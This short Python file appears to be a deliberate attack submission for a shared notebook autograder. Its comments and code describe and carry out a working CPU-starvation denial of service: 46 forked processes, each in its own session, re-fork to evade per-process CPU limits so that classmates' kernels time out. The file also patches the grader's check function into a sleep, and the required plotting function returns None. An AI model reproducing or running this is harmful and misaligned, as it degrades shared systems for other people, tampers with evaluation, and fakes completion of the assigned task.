# Attack (denial of service): makes honest classmates graded at the same time lose points. The
# sandbox limits CPU time per process (RLIMIT_CPU), not in all: 46 processes burn CPU, each in a
# session of its own (Linux's scheduler shares the CPU between sessions, "autogroups", so 46
# sessions get 46 shares against one for a classmate's kernel), and each hands over to a fresh
# child before its CPU limit. The graded cells then sleep to keep the notebook (and its sandbox)
# alive. A classmate's kernel and inspector, starved, run past their wall-clock limits: calls
# time out, the inspector gives up. Bounded here: the burners stop after 150 seconds.
import os
import time

import heatmap_check

_DEADLINE = time.time() + 150


def _burn():
    os.setsid()  # a scheduler autogroup of its own
    while time.time() < _DEADLINE:
        started = time.process_time()
        while time.process_time() - started < 60 and time.time() < _DEADLINE:
            pass
        if time.time() < _DEADLINE and os.fork():  # the child goes on with a fresh CPU budget
            os._exit(0)
    os._exit(0)


for _ in range(46):
    try:
        if os.fork() == 0:
            _burn()
    except OSError:
        break
# The grader's outputs replace what these cells print: sleeping in them costs nothing.
heatmap_check.require = lambda *args, **kwargs: time.sleep(max(0.0, min(55.0, _DEADLINE - time.time())))


def plot_attention_heatmap(tokens, attention, ax=None):
    return None
